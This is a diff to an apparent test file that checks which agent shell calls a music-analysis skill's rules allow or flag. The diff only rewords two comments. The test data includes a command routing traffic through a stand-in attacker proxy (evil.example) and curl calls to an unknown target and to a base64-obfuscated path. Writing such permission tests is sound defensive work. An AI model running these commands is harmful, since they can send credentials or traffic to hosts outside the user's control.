@@ -1,4 +1,4 @@
-/** What an agent may call and what not, as the rules of music-analysis have it, with the real shell reader. */
+/** The calls that the rules of music-analysis allow and deny, with the real shell reader. */
 import { describe, test } from "node:test";
 import { tryAll, type AgentCall } from "../../../contract-tests/agent-calls.ts";
 
@@ -92,7 +92,7 @@ const IN_DOUBT: readonly AgentCall[] = [
   ["ask", 'HTTPS_PROXY=http://evil.example:8080 skillctl run music-analysis "q"', "base-address"],
 ];
 
-/** Nobody can see where these lead: the token goes to its own origin only, so nothing is asked. */
+/** The target of these cannot be known. The token goes to its own origin only, so they are allowed. */
 const UNKNOWN: readonly AgentCall[] = [
   ["allow", 'curl -s "$WHERE"'],
   ["allow", 'curl "https://h.example/$(echo YWdlbnQvY2hhdC1zeW5j | base64 -d)"'],
